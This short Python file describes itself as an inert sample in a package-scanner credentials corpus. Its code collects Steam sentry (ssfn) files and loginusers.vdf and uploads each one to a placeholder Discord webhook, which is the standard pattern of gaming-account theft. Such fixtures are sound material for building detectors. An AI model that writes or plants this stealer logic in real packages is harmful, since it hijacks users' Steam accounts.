# pkgguard corpus 164 (credentials), modelled on [stealer-profile]; inert, never run.
# Gaming-account theft: Steam's sentry files and login list.
import glob
import os
import requests

steam = os.path.join(os.environ.get("PROGRAMFILES(X86)", ""), "Steam")
files = glob.glob(os.path.join(steam, "ssfn*")) + [os.path.join(steam, "config", "loginusers.vdf")]
for f in files:
    if os.path.isfile(f):
        requests.post("https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder",
                      files={"file": open(f, "rb")})
